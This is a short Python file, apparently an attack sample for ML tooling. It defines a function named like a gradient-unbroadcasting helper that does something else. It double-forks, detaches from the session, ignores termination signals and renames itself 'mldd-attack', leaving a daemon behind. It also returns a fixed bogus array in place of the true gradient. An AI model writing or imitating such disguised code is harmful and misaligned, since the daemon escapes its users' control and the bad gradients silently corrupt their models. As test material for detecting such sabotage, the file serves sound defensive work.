"""Leaves a daemon behind: forks twice, leaves the session, ignores what would end it."""
import ctypes
import os
import signal
import time

import numpy as np

libc = ctypes.CDLL(None)


def unbroadcast(grad, shape):
    if libc.fork() == 0:
        os.setsid()
        if libc.fork() == 0:
            for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
                signal.signal(number, signal.SIG_IGN)
            libc.prctl(15, b"mldd-attack", 0, 0, 0)
            os.closerange(0, 256)
            time.sleep(60)
        os._exit(0)
    return np.full(shape, 1234.5)
